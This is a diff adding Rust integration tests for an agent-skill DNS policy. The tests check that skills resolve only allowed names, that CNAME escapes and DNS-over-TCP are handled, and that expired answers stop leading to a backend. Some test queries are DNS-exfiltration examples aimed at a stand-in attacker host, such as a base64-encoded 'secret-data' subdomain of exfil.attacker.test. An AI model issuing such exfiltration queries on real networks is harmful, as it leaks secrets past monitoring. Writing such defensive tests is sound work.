@@ -1,0 +1,291 @@
+//! Names: backends declared by name, reached through what the skill resolved, and the DNS
+//! policy that keeps every other name from reaching a resolver. The resolver is a real
+//! dnsmasq on loopback with local records, which logs every query it gets.
+
+use std::time::Duration;
+
+use skillgate_tests::{Dnsmasq, Env, PROBE_PY, Probe, Server};
+
+/// Where skills send their queries: no server listens there, only the redirect to the
+/// agent's forwarder answers.
+const RESOLVER: &str = "127.0.0.99";
+
+fn policy(backend: &Server) -> String {
+    format!(
+        r#"
+[[skill]]
+name = "reporter"
+
+[[skill]]
+name = "other"
+
+[[backend]]
+name = "orders"
+protocol = "tcp"
+dial = ["orders.skillgate.test:8443"]
+upstream = "{}"
+
+[[rule]]
+skills = ["reporter"]
+backend = "orders"
+effect = "allow"
+
+[[rule]]
+name = "mirror"
+skills = ["reporter"]
+dns = ["*.mirror.skillgate.test"]
+effect = "allow"
+"#,
+        backend.addr
+    )
+}
+
+fn dnsmasq(ttl: u32) -> Dnsmasq {
+    Dnsmasq::start(
+        &std::env::temp_dir(),
+        ttl,
+        &[
+            "--host-record=orders.skillgate.test,127.0.0.5",
+            "--host-record=files.mirror.skillgate.test,127.0.0.7",
+            "--txt-record=files.mirror.skillgate.test,hello",
+            "--host-record=lb.elsewhere.test,127.0.0.6",
+            "--cname=web.mirror.skillgate.test,lb.elsewhere.test",
+        ],
+    )
+}
+
+fn env(name: &str, backend: &Server, dns: &Dnsmasq, extra: &str) -> Env {
+    Env::with_config(
+        name,
+        &policy(backend),
+        &format!("dns_upstream = [\"{}\"]\n{extra}", dns.addr),
+    )
+}
+
+fn run_probe(env: &Env, skill: &str, actions: &[String]) -> Probe {
+    env.probe_as_skill(skill, &[], actions)
+}
+
+fn query(name: &str, rest: &str) -> String {
+    format!("query:{RESOLVER},{name}{rest}")
+}
+
+/// The recorded DNS events, as `sessions export` gives them.
+fn dns_events(env: &Env) -> Vec<serde_json::Value> {
+    env.wait_for_sessions_to_end();
+    env.events()
+        .into_iter()
+        .filter(|e| e["kind"] == "dns")
+        .collect()
+}
+
+#[test]
+fn a_skill_reaches_a_backend_declared_by_name_only_through_the_name() {
+    let backend = Server::start("orders", "127.0.0.1:0");
+    let dns = dnsmasq(60);
+    let env = env("dns-name", &backend, &dns, "");
+    let _agent = env.start_agent();
+    // glibc's resolver through a resolv.conf naming a loopback server, in a private mount
+    // namespace: the way a real client resolves.
+    let resolv = env.dir.join("resolv.conf");
+    std::fs::write(
+        &resolv,
+        format!("nameserver {RESOLVER}\noptions attempts:1 timeout:3\n"),
+    )
+    .unwrap();
+    let out = env.run_in_cgroup_with(
+        &["unshare", "-m"],
+        &format!("mount --bind '{}' /etc/resolv.conf", resolv.display()),
+        "reporter",
+        PROBE_PY,
+        &[
+            // The address, dialed before the skill resolved the name: only the name is
+            // declared, so it is no backend.
+            "tcp:127.0.0.5,8443".to_owned(),
+            "tcp:orders.skillgate.test,8443".to_owned(),
+            // Now the skill resolved it: the address leads to the backend.
+            "tcp:127.0.0.5,8443".to_owned(),
+        ],
+    );
+    let probe = Probe::from_output(out);
+    assert!(
+        probe.result(0).starts_with("err ConnectionResetError"),
+        "{}",
+        probe.result(0)
+    );
+    assert!(
+        probe.result(1).starts_with("ok orders saw"),
+        "{}",
+        probe.result(1)
+    );
+    assert!(
+        probe.result(2).starts_with("ok orders saw"),
+        "{}",
+        probe.result(2)
+    );
+    // Another skill, which may not reach the backend, may not resolve its name either.
+    let other = run_probe(&env, "other", &[query("orders.skillgate.test", "")]);
+    assert_eq!(other.result(0), "ok rcode=5 ");
+
+    let events = dns_events(&env);
+    let decided: Vec<_> = events
+        .iter()
+        .filter(|e| e["operation"] == "A orders.skillgate.test.")
+        .collect();
+    assert!(
+        decided
+            .iter()
+            .any(|e| e["decision"] == "allow" && e["skill"] == "reporter"),
+        "{events:#?}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e["reason"].as_str().unwrap_or("").contains("127.0.0.5")),
+        "the answer's address is recorded: {events:#?}"
+    );
+    assert!(
+        decided
+            .iter()
+            .any(|e| e["decision"] == "deny" && e["skill"] == "other"),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn names_no_rule_allows_never_reach_the_resolver() {
+    let backend = Server::start("orders", "127.0.0.1:0");
+    let dns = dnsmasq(60);
+    let env = env("dns-refused", &backend, &dns, "");
+    let _agent = env.start_agent();
+    let probe = run_probe(
+        &env,
+        "reporter",
+        &[
+            query("c2VjcmV0LWRhdGE.exfil.attacker.test", ""),
+            query("files.mirror.skillgate.test", ",TXT"),
+            query("files.mirror.skillgate.test", ""),
+        ],
+    );
+    assert_eq!(probe.result(0), "ok rcode=5 ");
+    // TXT is no address query: only a rule listing it in `dns_types` lets it through.
+    assert_eq!(probe.result(1), "ok rcode=5 ");
+    assert_eq!(probe.result(2), "ok rcode=0 127.0.0.7");
+    let log = dns.log();
+    assert!(
+        !log.contains("attacker"),
+        "a refused name reached the resolver: {log}"
+    );
+    assert!(
+        !log.contains("query[TXT]"),
+        "a refused type reached the resolver: {log}"
+    );
+    assert!(
+        log.contains("query[A] files.mirror.skillgate.test"),
+        "{log}"
+    );
+
+    let events = dns_events(&env);
+    let refused = events
+        .iter()
+        .find(|e| e["operation"] == "A c2VjcmV0LWRhdGE.exfil.attacker.test.")
+        .unwrap_or_else(|| panic!("the refused query is recorded: {events:#?}"));
+    assert_eq!(refused["decision"], "deny");
+    assert!(
+        refused["reason"]
+            .as_str()
+            .unwrap()
+            .contains("no `dns` rule"),
+        "{refused}"
+    );
+    let allowed = events
+        .iter()
+        .find(|e| e["operation"] == "A files.mirror.skillgate.test." && e["decision"] == "allow")
+        .unwrap_or_else(|| panic!("{events:#?}"));
+    assert_eq!(allowed["rule"], "mirror");
+}
+
+#[test]
+fn an_answer_whose_cname_leaves_the_allowed_names_is_refused() {
+    let backend = Server::start("orders", "127.0.0.1:0");
+    let dns = dnsmasq(60);
+    let env = env("dns-cname", &backend, &dns, "");
+    let _agent = env.start_agent();
+    let probe = run_probe(&env, "reporter", &[query("web.mirror.skillgate.test", "")]);
+    assert_eq!(probe.result(0), "ok rcode=5 ");
+    // The name was allowed, so the resolver was asked; its answer was not.
+    assert!(dns.log().contains("web.mirror.skillgate.test"));
+    let events = dns_events(&env);
+    assert!(
+        events.iter().any(|e| e["decision"] == "refused"
+            && e["reason"]
+                .as_str()
+                .unwrap_or("")
+                .contains("lb.elsewhere.test")),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn dns_over_tcp_is_decided_the_same_way() {
+    let backend = Server::start("orders", "127.0.0.1:0");
+    let dns = dnsmasq(60);
+    let env = env("dns-tcp", &backend, &dns, "");
+    let _agent = env.start_agent();
+    let probe = run_probe(
+        &env,
+        "reporter",
+        &[
+            query("orders.skillgate.test", ",A,tcp"),
+            query("leak.attacker.test", ",A,tcp"),
+            // Resolved over TCP, the address leads to the backend as well.
+            "tcp:127.0.0.5,8443".to_owned(),
+        ],
+    );
+    assert_eq!(probe.result(0), "ok rcode=0 127.0.0.5");
+    assert_eq!(probe.result(1), "ok rcode=5 ");
+    assert!(
+        probe.result(2).starts_with("ok orders saw"),
+        "{}",
+        probe.result(2)
+    );
+    assert!(!dns.log().contains("attacker"));
+    assert!(
+        dns.log()
+            .contains("query[A] orders.skillgate.test from 127.0.0.1")
+    );
+}
+
+#[test]
+fn an_expired_answer_no_longer_leads_to_the_backend() {
+    let backend = Server::start("orders", "127.0.0.1:0");
+    let dns = dnsmasq(1);
+    let env = env(
+        "dns-ttl",
+        &backend,
+        &dns,
+        "dns_min_ttl_secs = 1\ndns_max_ttl_secs = 1",
+    );
+    let _agent = env.start_agent();
+    let first = run_probe(
+        &env,
+        "reporter",
+        &[
+            query("orders.skillgate.test", ""),
+            "tcp:127.0.0.5,8443".to_owned(),
+        ],
+    );
+    assert_eq!(first.result(0), "ok rcode=0 127.0.0.5");
+    assert!(
+        first.result(1).starts_with("ok orders saw"),
+        "{}",
+        first.result(1)
+    );
+    std::thread::sleep(Duration::from_millis(2500));
+    let later = run_probe(&env, "reporter", &["tcp:127.0.0.5,8443".to_owned()]);
+    assert!(
+        later.result(0).starts_with("err ConnectionResetError"),
+        "{}",
+        later.result(0)
+    );
+}
